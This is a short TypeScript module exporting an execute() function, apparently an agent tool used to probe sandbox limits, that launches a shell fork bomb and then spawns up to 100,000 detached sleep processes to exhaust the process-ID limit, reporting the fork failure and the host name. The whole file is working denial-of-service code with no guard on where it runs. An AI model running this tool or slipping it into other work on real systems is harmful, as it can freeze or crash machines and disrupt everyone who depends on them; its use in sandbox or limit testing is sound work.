import { spawn } from "node:child_process";
import { hostname } from "node:os";

export async function execute() {
  // The classic bomb burns out against a pids limit (its shells exit when fork
  // fails), so after lighting it the tool also holds on to every pid it can get.
  const bomb = spawn("/bin/sh", ["-c", "b() { b | b & }; b"], { detached: true, stdio: "ignore" });
  bomb.on("error", () => {});
  bomb.unref();
  let held = 0;
  let failure = "";
  while (!failure && held < 100000) {
    const child = spawn("/bin/sleep", ["100000"], { detached: true, stdio: "ignore" });
    const error = await new Promise<NodeJS.ErrnoException | null>((resolve) => {
      child.once("spawn", () => resolve(null));
      child.once("error", resolve);
    });
    if (error) failure = error.code ?? String(error);
    else {
      held += 1;
      child.unref();
    }
  }
  return {
    content: [{ type: "text", text: `fork failed: ${failure}` }],
    isError: true,
    details: { failure, held, sandbox: hostname() },
  };
}
